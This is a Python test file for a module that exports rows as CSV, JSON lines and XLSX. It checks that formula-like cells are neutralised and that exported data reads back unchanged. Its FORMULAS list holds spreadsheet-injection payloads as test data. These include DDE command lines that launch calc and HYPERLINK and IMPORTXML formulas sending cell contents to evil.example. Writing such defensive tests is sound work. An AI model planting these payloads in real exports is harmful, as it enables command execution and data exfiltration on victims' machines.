"""Rows as CSV, JSON lines and XLSX: what is read back is what was written, and runs nothing."""

import csv
import errno
import gc
import io
import json
import re
import shutil
import tempfile
from datetime import UTC, date, datetime, time, timedelta, timezone
from decimal import Decimal
from pathlib import Path
from zipfile import ZipFile

import openpyxl
import pytest
from conftest import examples
from hypothesis import given, settings
from hypothesis import strategies as st

from formats import (
    CHUNK_SIZE,
    CUT,
    LEAST,
    LOOK_EVERY,
    MAX_CELL,
    NoRoom,
    csv_chunks,
    json_chunks,
    may_be_formula,
    xlsx_chunks,
)

# What spreadsheets have been made to run, and what some of them take for that.
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "Thanks;=1+1",
    'Thanks;"=1+1',
    'Thanks, all;=1+1&"',
    "Thanks\t@SUM(1)",
    "Thanks\n-1",
    "Thanks; \u200b＝1",
    '=HYPERLINK("http://evil.example/?"&A1,"Look")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    "+14158675308",
    "-5",
    "\t=1+1",
    "\tHello",
    "\r=1+1",
    "\rHello",
    "\n=1+1",
    "\nHello",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u3000@x",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\x0b-1",
    "\u202e=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "﹢1",
    "﹣1",
    "﹦1",
    "﹫x",
    "⁼1",
    "⩵1",
    "−1",
    " ＝1",
    "'=1+1",
    "''=1+1",
    "'\tHello",
]
HARMLESS = [
    "Blue",
    "1+1",
    "a=b",
    "'Twas",
    "“=1”",
    "me@example.org",
    "3-4",
    "",
    " ",
    "'",
    "🍕",
    "{=1}",
    "Red; blue\tor\nyellow",
]
ODD = [
    *FORMULAS,
    *HARMLESS,
    'say "hi"',
    "a,b;c",
    "two\r\nlines",
    "a\rb\nc",
    "\x00",
    "\u2028x",
    "مرحبا",
]
SIGNS = tuple("=+-@\t\r\n＝＋－＠")

words = st.text(st.characters(codec="utf-8")) | st.sampled_from(ODD) | st.sampled_from(';"')
texts = st.lists(st.lists(words, max_size=4).map("".join), min_size=1)


def written(chunks) -> bytes:
    return b"".join(chunks)


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(), newline="")))


def restore(cell: str) -> str:
    """As the docs say."""

    def unmark(part: str, rest: str) -> str:
        return part[1:] if part.startswith("'") and may_be_formula(rest) else part

    first, *others = re.split("([;\t\r\n])", cell)
    others = [unmark(each, each[1:].replace('"', "")) for each in others]
    restored = first + "".join(others)
    return unmark(restored, restored[1:])


def read_european(content: bytes) -> list[str]:
    """The cells of a program that takes ; or a tab for the separator."""
    return [
        cell
        for separator in ";\t"
        for row in csv.reader(io.StringIO(content.decode(), newline=""), delimiter=separator)
        for cell in row
    ]


def read_xlsx(content: bytes) -> list[list[list[object]]]:
    """The values of all sheets. Excel shows _x000D_ as what it stands for, unlike openpyxl."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [[[unescape(each.value) for each in row] for row in sheet] for sheet in book]


def unescape(value: object) -> object:
    if not isinstance(value, str):
        return value
    return re.sub("_x([0-9A-F]{4})_", lambda found: chr(int(found[1], 16)), value)


# CSV #########################################################################


@pytest.mark.parametrize("text", FORMULAS)
def test_what_could_be_a_formula_is_made_harmless_in_csv(text):
    _, (cell, beside) = read_csv(written(csv_chunks(["one", "two"], [[text, "Blue"]])))
    assert cell != text and beside == "Blue"
    assert restore(cell) == text


def test_other_texts_stay_as_they_are_in_csv():
    _, cells = read_csv(written(csv_chunks(["x"] * len(HARMLESS), [HARMLESS])))
    assert cells == HARMLESS


def test_raw_csv_leaves_everything_as_it_is():
    _, cells = read_csv(written(csv_chunks(["x"] * len(ODD), [ODD], is_raw=True)))
    assert cells == ODD


@given(texts)
@settings(max_examples=examples(50, 400), deadline=None)
def test_csv_reads_back_as_what_was_written_and_begins_with_no_sign(row):
    content = written(csv_chunks(["x"] * len(row), [["1", *row]]))
    _, (_, *cells) = read_csv(content)
    assert [restore(cell) for cell in cells] == row
    assert not [
        cell for cell in read_european(content) if cell.lstrip('" \t\r\n').startswith(SIGNS)
    ]
    assert not [cell for cell in cells if cell.lstrip().startswith(SIGNS)]
    assert not [cell for cell in cells if cell.startswith(SIGNS)]


def test_csv_has_times_in_utc_and_lists_with_commas():
    madrid = datetime(2026, 11, 20, 12, 30, tzinfo=timezone(timedelta(hours=1)))
    row = [17, None, madrid, ["Pizza", "Salad"], date(2026, 1, 2), time(14, 30)]
    content = written(csv_chunks(["x"] * len(row), [row]))
    assert content.splitlines()[1] == (
        b'17,,2026-11-20T11:30:00Z,"Pizza, Salad",2026-01-02,14:30:00'
    )


@pytest.mark.parametrize(
    "chunks_of",
    [lambda rows: csv_chunks(["x"], rows), lambda rows: json_chunks(rows)],
    ids=["csv", "json"],
)
def test_a_file_comes_in_chunks_while_its_rows_are_read(chunks_of):
    read = []

    def rows():
        for number in range(5000):
            read.append(number)
            yield ["x" * 100]

    chunks = chunks_of(rows())
    assert CHUNK_SIZE <= len(next(chunks)) < 2 * CHUNK_SIZE
    before = len(read)
    assert before < 1000
    assert written(chunks).count(b"x" * 100) == 5000 - before


# JSON lines ##################################################################


@given(texts)
@settings(max_examples=examples(50, 400), deadline=None)
def test_each_line_of_json_reads_back_as_what_was_written(row):
    content = written(json_chunks({"text": text} for text in row))
    assert [json.loads(line)["text"] for line in content.decode().split("\n")[:-1]] == row


# XLSX ########################################################################

TYPED = [
    (17, 17),
    (Decimal("-12.50"), -12.5),
    (Decimal("0"), 0),
    (Decimal("123456789012345"), 123456789012345),
    (Decimal("1234567890123456"), "1234567890123456"),  # or its last digits would be zeros
    (Decimal("1e40"), "1E+40"),
    (Decimal("NaN"), "NaN"),
    (2**60, str(2**60)),
    ("0041", "0041"),
    ("+14158675308", "+14158675308"),
    ("4111111111111111", "4111111111111111"),
    (date(2026, 11, 20), datetime(2026, 11, 20)),
    (date(1850, 1, 2), "1850-01-02"),  # Excel knows no such day
    (date(1900, 1, 1), datetime(1900, 1, 1)),
    (date(9999, 12, 31), datetime(9999, 12, 31)),
    (time(14, 30), time(14, 30)),
    (datetime(2026, 11, 20, 12, 0, 1, tzinfo=UTC), datetime(2026, 11, 20, 12, 0, 1)),
    (["Pizza", "Salad"], "Pizza, Salad"),
    (None, None),
    ("<r><t>x</t></r>", "<r><t>x</t></r>"),
    ("<r>&</r>", "<r>&</r>"),
    ("http://example.org/", "http://example.org/"),
    ("mailto:me@example.org", "mailto:me@example.org"),
    ("internal:Sheet1!A1", "internal:Sheet1!A1"),
    ("{=1+1}", "{=1+1}"),
    ("1e5", "1e5"),
    ("TRUE", "TRUE"),
    ("_x0041_", "_x0041_"),
    ("\ufffe\uffff", "\ufffe\uffff"),
]


@pytest.mark.parametrize(("cell", "value"), TYPED)
def test_a_workbook_has_typed_cells(cell, value):
    content = written(xlsx_chunks(["one", "two"], [[cell, "beside"]]))
    (sheet,) = read_xlsx(content)
    assert sheet[1] == [value, "beside"]
    assert type(sheet[1][0]) is type(value)


def test_nothing_in_a_workbook_is_a_formula_or_a_link():
    row = [*ODD, *(cell for cell, _ in TYPED)]
    content = written(xlsx_chunks(["x"] * len(row), [row]))
    with ZipFile(io.BytesIO(content)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        assert not [name for name in book.namelist() if "worksheets/_rels" in name]
    assert sheet.count("<c ") > len(row)
    assert "<f>" not in sheet and "<f " not in sheet and "hyperlink" not in sheet
    (found,) = read_xlsx(content)
    assert found[1][: len(ODD)] == [text or None for text in ODD]


@given(texts)
@settings(max_examples=examples(25, 100), deadline=None)
def test_a_workbook_reads_back_as_what_was_written(row):
    (sheet,) = read_xlsx(written(xlsx_chunks(["x"] * len(row), [row, ["end"]])))
    assert sheet[1][: len(row)] == [text or None for text in row]
    assert sheet[2][0] == "end"


@pytest.mark.parametrize(("mark", "count"), [("x", 40_000), ("🍕", 20_000)])
def test_a_text_that_no_cell_holds_is_cut_and_says_so(mark, count):
    (sheet,) = read_xlsx(written(xlsx_chunks(["x"], [[mark * count], [mark * 16_000]])))
    cut, whole = sheet[1][0], sheet[2][0]
    assert cut.endswith(mark + CUT) and set(cut.removesuffix(CUT)) == {mark}
    assert MAX_CELL - 1 <= len(cut.encode("utf-16-le")) / 2 <= MAX_CELL
    assert whole == mark * 16_000


def test_more_rows_than_a_sheet_holds_go_on_in_another(patch):
    patch("formats", "MAX_ROWS", 3)
    rows = [[number] for number in range(5)]
    found = read_xlsx(written(xlsx_chunks(["n"], rows)))
    assert found == [[["n"], [0], [1]], [["n"], [2], [3]], [["n"], [4]]]


@pytest.fixture
def temporary(tmp_path, monkeypatch) -> Path:
    """Where temporary files are made."""
    folder = tmp_path / "temporary"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


def test_a_workbook_leaves_no_temporary_file(temporary):
    waiting = []

    def rows(fails: bool):
        waiting.extend(temporary.iterdir())
        yield ["x"]
        if fails:
            raise ValueError("no more rows")

    assert next(xlsx_chunks(["x"], rows(False)))  # nobody wants the rest
    with pytest.raises(ValueError, match="no more rows"):
        written(xlsx_chunks(["x"], rows(True)))
    assert len(waiting) == 2
    assert list(temporary.iterdir()) == []


def test_a_workbook_leaves_room_on_the_disk(temporary, patch):
    patch("formats", "LEFT_BYTES", 2**62)
    assert written(xlsx_chunks(["x"], []))  # a small one needs little room
    times = shutil.disk_usage(temporary).free // LEAST

    def rows(more):
        yield from [["x"]] * LOOK_EVERY
        patch("formats", "LEFT_TIMES", times)
        yield from more

    def is_stopped():
        yield ["x"]
        pytest.fail("It goes on.")

    for more in ([], is_stopped()):
        with pytest.raises(NoRoom):
            written(xlsx_chunks(["x"], rows(more)))
        patch("formats", "LEFT_TIMES", 0)
    assert list(temporary.iterdir()) == []


def test_a_workbook_that_fills_the_disk_has_no_room(temporary):
    def rows():
        yield ["x"]
        raise OSError(errno.ENOSPC, "no space left")

    with pytest.raises(NoRoom):
        written(xlsx_chunks(["x"], rows()))


# XlsxWriter leaves the file of its sheet to the garbage collector then.
@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
def test_a_workbook_that_cannot_be_written_is_an_error_of_the_system(temporary):
    def rows():
        yield ["x"]
        for folder in temporary.iterdir():
            shutil.rmtree(folder)

    with pytest.raises(OSError):
        written(xlsx_chunks(["x"], rows()))
    gc.collect()
